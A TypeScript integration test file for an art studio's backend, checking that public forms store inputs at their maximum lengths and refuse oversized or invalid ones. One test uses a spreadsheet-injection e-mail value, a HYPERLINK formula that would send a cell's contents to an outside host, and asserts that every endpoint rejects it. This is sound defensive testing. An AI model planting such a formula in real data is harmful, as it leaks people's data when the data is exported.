import { ADDRESS_LIMITS, charCount, EMAIL_MAX_LENGTH, FIELD_LIMITS, ORIGINAL_ART_WORK } from '@sawa/shared/domain';
import { createTestApp, TestApp } from './harness';
import { createArtist } from './support/fixtures';
import { png } from './support/images';

/**
 * Text of exactly `length` characters as PostgreSQL counts them, made of what a browser form lets
 * people type and a naive counter gets wrong: emoji (two UTF-16 units), a Hebrew word, a letter
 * with a combining accent, and a variation selector (class-validator's MaxLength does not count it).
 */
function maximal(length: number): string {
  const pieces = ['A', '🦍', 'ש', 'e', '\u0301', '☀', '\uFE0F', 'ñ', '-'];
  let text = '';
  for (let i = 0; charCount(text) < length; i++) text += pieces[i % pieces.length];
  return text;
}

/** The longest address the one e-mail rule accepts (254 characters). */
const LONGEST_EMAIL = `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(57)}.org`;
const LONGEST_PHONE = '+250 (788) 123-45.67';

const gql = (t: TestApp, query: string, variables: Record<string, unknown>) =>
  t.http().post('/graphql').set('content-type', 'application/json').send({ query, variables });

describe('nothing a visitor sends is lost: every public form at its limits', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ PAYMENTS_SANDBOX: 'true', MAIL_WORKER_INTERVAL_SECONDS: '0' });
    // The sandbox is reached over real HTTP, like IremboPay.
    await t.app.listen(0, '127.0.0.1');
  });
  afterAll(() => t.close());

  it('the limits of the test inputs are what the forms allow', () => {
    expect(LONGEST_EMAIL).toHaveLength(EMAIL_MAX_LENGTH);
    expect(LONGEST_PHONE).toHaveLength(FIELD_LIMITS.commission.phone);
    expect(charCount(maximal(200))).toBe(200);
    expect(maximal(200).length).toBeGreaterThan(200);
  });

  const commission = () => ({
    name: maximal(FIELD_LIMITS.commission.name),
    email: LONGEST_EMAIL,
    phone: LONGEST_PHONE,
    country: maximal(FIELD_LIMITS.commission.country),
    artworkType: maximal(FIELD_LIMITS.commission.artworkType),
    size: maximal(FIELD_LIMITS.commission.size),
    stylePreferences: maximal(FIELD_LIMITS.commission.stylePreferences),
    message: maximal(FIELD_LIMITS.commission.message),
  });

  const storedCommissions = () =>
    t.dataSource.query(
      `SELECT name, email, phone, country, artwork_type AS "artworkType", size, style_preferences AS "stylePreferences", message FROM commission_request`,
    );

  it('a commission request with every field at its limit (REST multipart, with an image) is stored whole, and its mail subject is cut to fit', async () => {
    const fields = commission();
    const req = t.http().post('/api/v1/commissions/send-commission');
    for (const [key, value] of Object.entries(fields)) req.field(key, value);
    const res = await req.attach('referenceImage', await png(), { filename: 'ref.png', contentType: 'image/png' });
    expect(res.status).toBe(200);
    expect(await storedCommissions()).toEqual([fields]);
    // The old subject, `Commission request from {name}: {artworkType}`, was over 400 characters here and rolled the request back.
    const subjects: { subject: string }[] = await t.dataSource.query(`SELECT subject FROM outbox_message ORDER BY "to"`);
    expect(subjects).toHaveLength(2);
    const toStudio = subjects.find((s) => s.subject.startsWith('Commission request from '))!;
    expect(charCount(toStudio.subject)).toBeLessThanOrEqual(300);
    expect(toStudio.subject.endsWith('…')).toBe(true);
    expect(toStudio.subject.startsWith(`Commission request from ${fields.name.slice(0, 100)}`)).toBe(true);
  });

  it('the same through GraphQL', async () => {
    const fields = { ...commission(), email: `x${LONGEST_EMAIL.slice(1)}` };
    const res = await gql(t, 'mutation ($input: CommissionRequestInput!) { requestCommission(input: $input) { id } }', { input: fields });
    expect(res.body.errors).toBeUndefined();
    expect(await storedCommissions()).toContainEqual(fields);
  });

  it('one character over a limit is refused with a message naming the field, nothing stored', async () => {
    const before = (await storedCommissions()).length;
    const res = await gql(t, 'mutation ($input: CommissionRequestInput!) { requestCommission(input: $input) { id } }', {
      input: { ...commission(), artworkType: maximal(FIELD_LIMITS.commission.artworkType + 1) },
    });
    expect(res.body.errors[0]).toMatchObject({
      message: `artworkType must be shorter than or equal to ${FIELD_LIMITS.commission.artworkType} characters`,
      extensions: { code: 'BAD_USER_INPUT' },
    });
    expect(await storedCommissions()).toHaveLength(before);
  });

  it('a newsletter sign-up with the longest address', async () => {
    await t.http().post('/api/v1/mail/subscribe').send({ email: LONGEST_EMAIL }).expect(200);
    expect(await t.dataSource.query(`SELECT email FROM newsletter_subscriber`)).toEqual([{ email: LONGEST_EMAIL }]);
  });

  it('one e-mail rule at every public door: a spreadsheet formula as the address is refused, naming the field, and nothing is stored', async () => {
    const FORMULA = '=HYPERLINK("https://x/?"&A2,"y")&"@a.b"';
    const counts = async () =>
      (
        await t.dataSource.query(
          `SELECT (SELECT count(*) FROM commission_request)::int AS commissions, (SELECT count(*) FROM customer_order)::int AS orders,
                  (SELECT count(*) FROM booking)::int AS bookings, (SELECT count(*) FROM newsletter_subscriber)::int AS subscribers`,
        )
      )[0] as Record<string, number>;
    const before = await counts();
    const graphqlRefusal = (res: { body: { errors?: { message: string; extensions: { code: string } }[] } }) => {
      expect(res.body.errors?.[0]).toMatchObject({
        message: expect.stringContaining('email must be a valid e-mail address'),
        extensions: { code: 'BAD_USER_INPUT' },
      });
    };

    const rest = t.http().post('/api/v1/commissions/send-commission');
    for (const [key, value] of Object.entries({ ...commission(), email: FORMULA })) rest.field(key, value);
    expect((await rest.expect(400)).body.message).toContain('email must be a valid e-mail address');
    graphqlRefusal(
      await gql(t, 'mutation ($input: CommissionRequestInput!) { requestCommission(input: $input) { id } }', { input: { ...commission(), email: FORMULA } }),
    );
    graphqlRefusal(
      await gql(t, 'mutation ($input: CheckoutInput!) { checkout(input: $input) { orderNumber } }', {
        input: {
          name: 'Amani',
          email: FORMULA,
          phone: '+250 788 555 000',
          address: { countryCode: 'RW', region: 'Kigali City', city: 'Gasabo', line1: 'KN 5 Rd' },
          delivery: 'pickup',
          lines: [],
        },
      }),
    );
    graphqlRefusal(
      await gql(t, 'mutation ($input: BookingInput) { bookStudioVisit(input: $input) { paymentLinkUrl } }', { input: { name: 'Amani', email: FORMULA } }),
    );
    const legacyBooking = await t
      .http()
      .post('/api/v1/payments/sawatour-invoice')
      .send({ customer: { name: 'Amani', email: FORMULA } })
      .expect(400);
    expect(legacyBooking.body.message).toContain('customer.email must be a valid e-mail address');
    await t.http().post('/api/v1/mail/subscribe').send({ email: FORMULA }).expect(400);
    graphqlRefusal(await gql(t, 'mutation ($email: String!) { subscribeToNewsletter(email: $email) { message } }', { email: FORMULA }));

    expect(await counts()).toEqual(before);
  });

  it('a checkout with every field at its limit', async () => {
    const token = await t.token();
    const artistId = await createArtist(t, maximal(FIELD_LIMITS.artist.name));
    const categoryId = (await t.dataSource.query(`INSERT INTO category (name, image_id) SELECT 'Paintings', id FROM asset LIMIT 1 RETURNING id`))[0].id;
    const created = await t
      .http()
      .post('/graphql')
      .set('authorization', `Bearer ${token}`)
      .send({
        query: 'mutation ($input: CreateArtworkInput!) { createArtwork(input: $input) { id editions { id } } }',
        variables: {
          input: {
            name: maximal(FIELD_LIMITS.artwork.name),
            productCode: maximal(FIELD_LIMITS.artwork.productCode),
            description: maximal(FIELD_LIMITS.artwork.description),
            size: maximal(FIELD_LIMITS.artwork.size),
            material: maximal(FIELD_LIMITS.artwork.material),
            artistId,
            categoryId,
            editions: [
              { type: ORIGINAL_ART_WORK, price: '1200.00' },
              { type: maximal(FIELD_LIMITS.artwork.editionType), price: '95.50', prices: [{ currency: 'RWF', amount: '138000' }] },
            ],
          },
        },
      });
    expect(created.body.errors).toBeUndefined();
    const art = created.body.data.createArtwork;
    const buyer = {
      name: maximal(FIELD_LIMITS.checkout.name),
      email: LONGEST_EMAIL,
      phone: LONGEST_PHONE,
      notes: maximal(FIELD_LIMITS.checkout.notes),
    };
    const address = {
      countryCode: 'DE',
      region: maximal(ADDRESS_LIMITS.region),
      city: maximal(ADDRESS_LIMITS.city),
      postcode: maximal(ADDRESS_LIMITS.postcode),
      line1: maximal(ADDRESS_LIMITS.line),
      line2: maximal(ADDRESS_LIMITS.line),
    };
    const res = await gql(t, 'mutation ($input: CheckoutInput!) { checkout(input: $input) { orderNumber } }', {
      // Collected at the studio: a domestic sale, in francs (issue 22).
      input: {
        ...buyer,
        address,
        delivery: 'pickup',
        currency: 'RWF',
        lines: [{ artworkId: art.id, editionId: art.editions[1].id, quantity: 1, unitPrice: '138000' }],
      },
    });
    expect(res.body.errors).toBeUndefined();
    const [order] = await t.dataSource.query(
      `SELECT customer_name AS name, customer_email AS email, customer_phone AS phone, notes,
              address_country_code AS "countryCode", address_region AS region, address_city AS city, address_postcode AS postcode,
              address_line1 AS line1, address_line2 AS line2 FROM customer_order`,
    );
    expect(order).toEqual({ ...buyer, ...address });
  });

  it('a studio visit booked with every detail at its limit, through GraphQL and the legacy REST route', async () => {
    const visitor = { name: maximal(FIELD_LIMITS.visit.name), email: LONGEST_EMAIL, phone: LONGEST_PHONE };
    const graphql = await gql(t, 'mutation ($input: BookingInput) { bookStudioVisit(input: $input) { paymentLinkUrl } }', { input: visitor });
    expect(graphql.body.errors).toBeUndefined();
    await t
      .http()
      .post('/api/v1/payments/sawatour-invoice')
      .send({ customer: { name: visitor.name, email: visitor.email, phoneNumber: visitor.phone } })
      .expect(200);
    const rows = await t.dataSource.query(`SELECT visitor_name AS name, visitor_email AS email, visitor_phone AS phone FROM booking`);
    expect(rows).toEqual([visitor, visitor]);
  });
});
